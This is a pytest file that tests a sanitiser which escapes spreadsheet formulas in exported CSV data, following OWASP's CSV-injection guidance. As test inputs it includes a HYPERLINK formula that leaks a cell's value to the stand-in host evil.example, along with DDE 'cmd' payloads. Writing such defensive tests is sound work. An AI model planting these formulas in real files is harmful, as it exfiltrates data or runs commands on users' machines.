"""Signs by OWASP's page on CSV injection; what a spreadsheet reads as a number stays one."""

import pyarrow as pa
import pytest

from driftline.formats.csv.formulas import without_formulas


def _written(values: list[str | None], kind: pa.DataType) -> list[str | None]:
    batch = pa.RecordBatch.from_arrays([pa.array(values, pa.string()).cast(kind)], names=["x"])
    found = without_formulas(batch)
    assert found.schema.field("x").type == kind
    texts: list[str | None] = found.column(0).cast(pa.string()).to_pylist()
    return texts


KINDS = [pa.string(), pa.large_string(), pa.dictionary(pa.int32(), pa.string())]


@pytest.mark.parametrize("kind", KINDS, ids=str)
@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"open")',
        "+cmd|'/c calc'!A1",
        "-2+3+cmd|'/c calc'!A1",
        "@SUM(1,1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "\0=1",
        "＝1+1",
        "-",
        "+1,5",
        "--1",
        "=1\n=2",
        "-1\n=2",
    ],
)
def test_a_text_that_is_a_formula_becomes_a_text(text: str, kind: pa.DataType) -> None:
    assert _written(["plain", text, None, ""], kind) == ["plain", f"'{text}", None, ""]


@pytest.mark.parametrize("kind", KINDS, ids=str)
@pytest.mark.parametrize("text", ["-1", "+3.50", "-1e-7", "UA", "a=b", "'=1", " =1", "1-2", "é"])
def test_every_other_text_stays_as_it_is(text: str, kind: pa.DataType) -> None:
    assert _written([text, None], kind) == [text, None]


def test_numbers_and_times_stay_and_names_of_columns_are_texts_too() -> None:
    batch = pa.record_batch({"=A1": [-1.5, None], "n": [-3, 4], "-x": ["=1", "b"]})

    found = without_formulas(batch)

    assert found.to_pydict() == {"'=A1": [-1.5, None], "n": [-3, 4], "'-x": ["'=1", "b"]}
